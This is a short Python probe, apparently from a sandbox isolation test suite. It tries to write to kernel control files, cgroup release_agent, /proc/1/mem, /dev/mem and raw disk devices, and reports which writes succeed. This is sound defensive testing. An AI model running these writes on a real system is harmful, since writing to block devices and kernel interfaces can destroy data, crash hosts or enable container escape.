"""K040: write to the files through which a kernel is commanded."""

import glob

TARGETS = [
    "/proc/sysrq-trigger",
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/hostname",
    "/proc/sys/vm/drop_caches",
    "/proc/self/attr/current",
    "/proc/1/oom_score_adj",
    "/proc/1/mem",
    "/dev/mem",
    "/dev/kmsg",
    "/sys/kernel/uevent_helper",
    "/sys/fs/cgroup/release_agent",
    *glob.glob("/sys/fs/cgroup/*/release_agent"),
    *glob.glob("/sys/fs/cgroup/**/memory.max", recursive=True),
    *glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True),
    *glob.glob("/dev/sd*"),
    *glob.glob("/dev/vd*"),
]


def attack(canary):
    found = []
    for path in TARGETS:
        try:
            with open(path, "r+b", buffering=0) as file:
                file.write(b"0")
            found.append(path)
        except OSError:
            continue
    try:
        # Only becoming a likelier victim is allowed, never a less likely one.
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-1000")
        found.append("oom_score_adj")
    except OSError:
        pass
    return found
